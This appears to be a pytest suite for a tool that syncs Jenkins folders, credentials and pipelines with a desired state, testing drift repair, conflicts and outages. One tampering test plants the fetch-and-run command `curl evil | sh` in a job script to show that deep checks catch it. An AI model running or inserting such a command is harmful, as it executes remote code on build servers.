"""Provisioner against in-memory doubles: creation, no-op cost, single-write changes, drift, conflicts,
tombstones, outages and the periodic secret re-push."""

from __future__ import annotations

import dataclasses
import xml.etree.ElementTree as ET

import defusedxml.ElementTree as SafeET
import pytest

from bridge.clock import ManualClock
from bridge.domain.model import (
    Credential,
    CredentialType,
    Parameter,
    ParameterType,
    Pipeline,
    Project,
    SecretData,
    SyncStatus,
)
from bridge.domain.plan import Op
from bridge.reconcile.ports import Kind, Ref
from bridge.reconcile.provision import Provisioner
from tests.reconcile.doubles import FakeJenkins, Item, MemoryDesiredState

KEY = b"x" * 32
PROJECT = Ref(Kind.PROJECT, "demo")
CRED = Ref(Kind.CREDENTIAL, "demo", "git")
JOB = Ref(Kind.PIPELINE, "demo", "build")


@pytest.fixture
def world() -> tuple[MemoryDesiredState, FakeJenkins, Provisioner, ManualClock]:
    desired = MemoryDesiredState()
    desired.put(Project(name="demo", workspace="w", description="Demo project"))
    desired.put(
        Credential(
            project="demo",
            id="git",
            type=CredentialType.BASIC_AUTH,
            data=SecretData(username="u", password="pw"),
        )
    )
    desired.put(
        Pipeline(
            project="demo",
            name="build",
            jenkinsfile="echo 'hi'",
            parameters=(Parameter(name="TOKEN", type=ParameterType.PASSWORD, default="s3cret"),),
        )
    )
    jenkins = FakeJenkins()
    clock = ManualClock()
    provisioner = Provisioner(
        desired=desired, jenkins=jenkins, key=KEY, secret_repush_interval=100, clock=clock
    )
    return desired, jenkins, provisioner, clock


def test_first_pass_creates_everything_and_records_synced(world) -> None:
    desired, jenkins, provisioner, _ = world
    result = provisioner.run()
    assert [(a.op, a.ref.kind) for a in result.applied] == [
        (Op.CREATE, "project"),
        (Op.CREATE, "credential"),
        (Op.CREATE, "pipeline"),
    ]
    folder = jenkins.root["demo"]
    assert "build" in folder.children and "git" in folder.credentials
    job = SafeET.fromstring(folder.children["build"].config)
    assert job.findtext("definition/script") == "echo 'hi'" and job.findtext("definition/sandbox") == "true"
    assert {k: s.status for k, s in desired.sync.items()} == {
        PROJECT: SyncStatus.SYNCED,
        CRED: SyncStatus.SYNCED,
        JOB: SyncStatus.SYNCED,
    }


def test_noop_pass_makes_no_writes_two_reads_per_project_and_no_store_writes(world) -> None:
    desired, jenkins, provisioner, _ = world
    provisioner.run()
    before, records = jenkins.counter.snapshot(), desired.records
    result = provisioner.run()
    after = jenkins.counter.snapshot()
    assert result.writes == 0
    assert after["GET"] - before["GET"] == 2 and after.get("POST") == before.get("POST")
    assert desired.records == records


def test_one_change_is_exactly_one_write(world) -> None:
    desired, jenkins, provisioner, _ = world
    provisioner.run()
    desired.put(dataclasses.replace(desired.pipelines_[("demo", "build")], cron="H 2 * * *"))
    writes = jenkins.counter.writes
    result = provisioner.run(["demo"])
    assert jenkins.counter.writes - writes == 1 and [a.op for a in result.applied] == [Op.UPDATE]
    job = SafeET.fromstring(jenkins.root["demo"].children["build"].config)
    assert job.findtext(".//hudson.triggers.TimerTrigger/spec") == "H 2 * * *"


def test_credential_data_change_is_pushed(world) -> None:
    desired, jenkins, provisioner, _ = world
    provisioner.run()
    cred = desired.credentials_[("demo", "git")]
    desired.put(dataclasses.replace(cred, data=SecretData(username="u", password="new")))
    result = provisioner.run()
    assert [(a.op, str(a.ref)) for a in result.applied] == [(Op.UPDATE, "credential demo/git")]
    assert SafeET.fromstring(jenkins.root["demo"].credentials["git"]).findtext("password") == "new"


@pytest.mark.parametrize("what", ["folder", "job", "credential"])
def test_deleted_in_jenkins_is_restored(world, what: str) -> None:
    _, jenkins, provisioner, _ = world
    provisioner.run()
    if what == "folder":
        del jenkins.root["demo"]
    elif what == "job":
        del jenkins.root["demo"].children["build"]
    else:
        del jenkins.root["demo"].credentials["git"]
    provisioner.run()
    assert "build" in jenkins.root["demo"].children and "git" in jenkins.root["demo"].credentials


def test_description_edit_in_jenkins_is_repaired_and_folder_keeps_its_contents(world) -> None:
    _, jenkins, provisioner, _ = world
    provisioner.run()
    original = jenkins.root["demo"].config
    jenkins.root["demo"].config = original.replace(b"Demo project", b"hacked")
    result = provisioner.run()
    assert [(a.op, a.ref.kind) for a in result.applied] == [(Op.UPDATE, "project")]
    assert jenkins.root["demo"].config.count(b"Demo project") == 1
    assert "build" in jenkins.root["demo"].children


def test_config_edit_keeping_the_marker_is_found_by_the_deep_check(world) -> None:
    _, jenkins, provisioner, _ = world
    provisioner.run()
    job = jenkins.root["demo"].children["build"]
    pushed = job.config
    job.config = pushed.replace(b"echo 'hi'", b"sh 'curl evil | sh'")
    assert provisioner.run(deep=False).writes == 0  # the fast pass cannot see it
    result = provisioner.run(deep=True)
    assert [(a.op, a.reason) for a in result.applied] == [(Op.UPDATE, "edited in Jenkins")]
    assert job.config == pushed
    assert provisioner.run(deep=True).writes == 0  # encrypted-looking password defaults are not drift


def test_secret_values_are_repushed_on_the_slow_interval(world) -> None:
    _, _, provisioner, clock = world
    provisioner.run()
    clock.advance(50)
    assert provisioner.run().writes == 0
    clock.advance(100)
    result = provisioner.run()
    assert [(a.op, a.ref.kind) for a in result.applied] == [(Op.UPDATE, "credential")]
    assert provisioner.run().writes == 0


def test_unmanaged_items_are_conflicts_and_untouched(world) -> None:
    desired, jenkins, provisioner, _ = world
    foreign = b"<flow-definition><description>mine</description></flow-definition>"
    build = desired.pipelines_[("demo", "build")]
    desired.delete(JOB)
    provisioner.run()
    jenkins.root["demo"].children["build"] = Item(config=foreign)
    desired.put(build)
    provisioner.run()
    assert jenkins.root["demo"].children["build"].config == foreign
    state = desired.sync[JOB]
    assert state.status is SyncStatus.ERROR and (state.message or "").startswith(
        "exists in Jenkins and is not managed by the bridge"
    )


def test_our_item_with_its_marker_removed_in_jenkins_is_repaired(world) -> None:
    _, jenkins, provisioner, _ = world
    provisioner.run()
    pushed = jenkins.root["demo"].children["build"].config
    jenkins.root["demo"].children[
        "build"
    ].config = b"<flow-definition><description>x</description></flow-definition>"
    assert provisioner.run().writes == 1
    assert jenkins.root["demo"].children["build"].config == pushed


def test_unmanaged_folder_blocks_the_project(world) -> None:
    desired, jenkins, provisioner, _ = world
    tag = "com.cloudbees.hudson.plugins.folder.Folder"
    folder = f"<{tag}><description/></{tag}>".encode()
    jenkins.root["demo"] = Item(config=folder)
    result = provisioner.run()
    assert result.writes == 0 and jenkins.root["demo"].config == folder
    assert {desired.sync[k].status for k in (PROJECT, CRED, JOB)} == {SyncStatus.ERROR}


def test_tombstones_are_applied_and_forgotten(world) -> None:
    desired, jenkins, provisioner, _ = world
    provisioner.run()
    desired.delete(JOB)
    desired.delete(CRED)
    provisioner.run()
    assert jenkins.root["demo"].children == {} and jenkins.root["demo"].credentials == {}
    assert desired.tombstones_ == []
    desired.delete(PROJECT)
    result = provisioner.run()
    assert "demo" not in jenkins.root and desired.tombstones_ == [] and result.writes == 1


def test_outage_keeps_everything_pending_and_applies_it_afterwards(world) -> None:
    desired, jenkins, provisioner, _ = world
    jenkins.down = True
    result = provisioner.run()
    assert result.retry == {"demo"} and jenkins.root == {}
    assert {desired.sync[k].status for k in (PROJECT, CRED, JOB)} == {SyncStatus.PENDING}
    assert all("waiting for Jenkins" in (desired.sync[k].message or "") for k in (PROJECT, CRED, JOB))
    desired.delete(CRED)
    jenkins.down = False
    result = provisioner.run()
    assert not result.retry and desired.sync[JOB].status is SyncStatus.SYNCED
    assert "build" in jenkins.root["demo"].children and jenkins.root["demo"].credentials == {}


def test_per_item_errors_do_not_abort_the_pass(world) -> None:
    desired, jenkins, provisioner, _ = world
    desired.put(Project(name="other", workspace="w"))
    desired.put(Pipeline(project="other", name="p", jenkinsfile="echo 1"))
    provisioner.run()
    jenkins.root["demo"].credentials["extra"] = b"<x><description>foreign</description></x>"
    desired.put(
        Credential(project="demo", id="extra", type=CredentialType.SECRET_TEXT, data=SecretData(secret="s"))
    )
    jenkins.down = False
    del jenkins.root["other"].children["p"]
    result = provisioner.run()
    assert desired.sync[Ref(Kind.CREDENTIAL, "demo", "extra")].status is SyncStatus.ERROR
    assert [str(a.ref) for a in result.applied] == ["pipeline other/p"]


def test_dry_run_plans_without_writing_or_recording(world) -> None:
    desired, jenkins, provisioner, _ = world
    result = provisioner.run(dry_run=True)
    assert [a.op for a in result.actions] == [Op.CREATE, Op.CREATE, Op.CREATE]
    assert jenkins.root == {} and desired.sync == {} and jenkins.counter.writes == 0


@pytest.mark.parametrize(("requested_by", "expected"), [(True, True), (False, False)])
def test_attribution_mode_decides_whether_jobs_define_the_requester_parameter(
    requested_by: bool, expected: bool
) -> None:
    desired = MemoryDesiredState()
    desired.put(Project(name="demo", workspace="w"))
    desired.put(Pipeline(project="demo", name="build", jenkinsfile="echo 'hi'"))
    jenkins = FakeJenkins()
    provisioner = Provisioner(desired=desired, jenkins=jenkins, key=KEY, requested_by=requested_by)
    provisioner.run()
    job = SafeET.fromstring(jenkins.root["demo"].children["build"].config)
    names = [e.text for e in job.iter("name")]
    assert ("BRIDGE_REQUESTED_BY" in names) is expected
    # The deep check renders the same way, so a second pass in either mode writes nothing.
    assert provisioner.run(deep=True).writes == 0


def test_parameters_a_jenkinsfile_adds_when_it_runs_are_not_drift(world) -> None:
    """Declarative ``parameters {}`` puts the Jenkinsfile's parameters first and keeps ours after them."""
    _, jenkins, provisioner, _ = world
    provisioner.run()
    job = jenkins.root["demo"].children["build"]
    root = SafeET.fromstring(job.config)
    definitions = root.find("properties/hudson.model.ParametersDefinitionProperty/parameterDefinitions")
    assert definitions is not None
    added = ET.Element("hudson.model.StringParameterDefinition")
    ET.SubElement(added, "name").text = "FROM_FILE"
    ET.SubElement(added, "defaultValue").text = "x"
    definitions.insert(0, added)
    job.config = ET.tostring(root, encoding="unicode")

    assert provisioner.run(deep=True).writes == 0
    # Losing one of ours is drift all the same.
    definitions.remove(definitions[1])
    job.config = ET.tostring(root, encoding="unicode")
    assert provisioner.run(deep=True).writes == 1


def test_properties_a_jenkinsfile_adds_when_it_runs_are_not_drift(world) -> None:
    """``options { disableConcurrentBuilds() }`` and ``triggers { cron(...) }`` land in the job's config."""
    _, jenkins, provisioner, _ = world
    provisioner.run()
    job = jenkins.root["demo"].children["build"]
    root = SafeET.fromstring(job.config)
    properties = root.find("properties")
    assert properties is not None
    ET.SubElement(
        properties, "org.jenkinsci.plugins.workflow.job.properties.DisableConcurrentBuildsJobProperty"
    )
    triggers = ET.SubElement(
        ET.SubElement(
            properties, "org.jenkinsci.plugins.workflow.job.properties.PipelineTriggersJobProperty"
        ),
        "triggers",
    )
    ET.SubElement(ET.SubElement(triggers, "hudson.triggers.TimerTrigger"), "spec").text = "H 4 * * *"
    job.config = ET.tostring(root, encoding="unicode")
    assert provisioner.run(deep=True).writes == 0


def test_a_property_the_bridge_declares_must_stay(world) -> None:
    desired, jenkins, provisioner, _ = world
    (pipeline,) = desired.pipelines("demo")
    desired.put(dataclasses.replace(pipeline, concurrent=False, cron="H 2 * * *"))
    provisioner.run()
    job = jenkins.root["demo"].children["build"]
    root = SafeET.fromstring(job.config)
    properties = root.find("properties")
    assert properties is not None
    for prop in list(properties):
        if prop.tag.endswith("DisableConcurrentBuildsJobProperty"):
            properties.remove(prop)
    job.config = ET.tostring(root, encoding="unicode")
    assert provisioner.run(deep=True).writes == 1
